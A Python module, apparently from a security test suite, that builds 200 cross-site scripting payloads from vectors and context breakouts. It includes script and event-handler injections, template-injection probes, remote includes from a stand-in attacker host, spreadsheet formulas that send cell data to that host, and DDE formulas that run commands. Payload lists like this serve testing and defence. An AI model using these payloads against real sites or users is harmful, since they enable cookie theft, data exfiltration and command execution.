"""Two hundred cross-site scripting payloads for every field that is shown back.

Classic vectors, attribute and element breakouts, javascript: and data: URLs, SVG and MathML,
template injection (Jinja, Angular, Vue), unicode tricks and spreadsheet formulas. Built from
hand-written vectors and the contexts they try to break out of, de-duplicated, cut to 200.
"""

from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<p style="x:expression(alert(1))">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "\u202e<script>alert(1)</script>",
    "\u200b<script>\u200balert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u00adipt>alert(1)</script>",  # NUL is refused before any page (evalsite.security)
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "张三<script>alert('评议')</script>",
    '市政务服务中心"><svg onload=alert(1)>',
    "窗口</td><td><img src=x onerror=alert(1)>",
    "');alert(1);//",
    '";alert(1);//',
    "`-alert(1)-`",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<a id=x tabindex=1 onfocusin=alert(1)>",
    "<div onpointerover=alert(1)>x</div>",
]
#: Contexts a value may be placed in: text, a double- or single-quoted attribute, a title or
#: a textarea; each vector is also tried after each breakout.
BREAKOUTS = ["", '">', "'>", "</title>", "</textarea>", "--!>", "</a>"]


def _payloads() -> list[str]:
    seen: dict[str, None] = {}
    for vector in VECTORS:
        seen.setdefault(vector)
    for breakout in BREAKOUTS[1:]:
        for vector in VECTORS:
            if len(seen) >= 200:
                return list(seen)
            if vector.startswith("<"):
                seen.setdefault(breakout + vector)
    return list(seen)


PAYLOADS = _payloads()
assert len(PAYLOADS) == 200, len(PAYLOADS)


PER_WORLD = 20


WORLDS = [PAYLOADS[i : i + PER_WORLD] for i in range(0, len(PAYLOADS), PER_WORLD)]
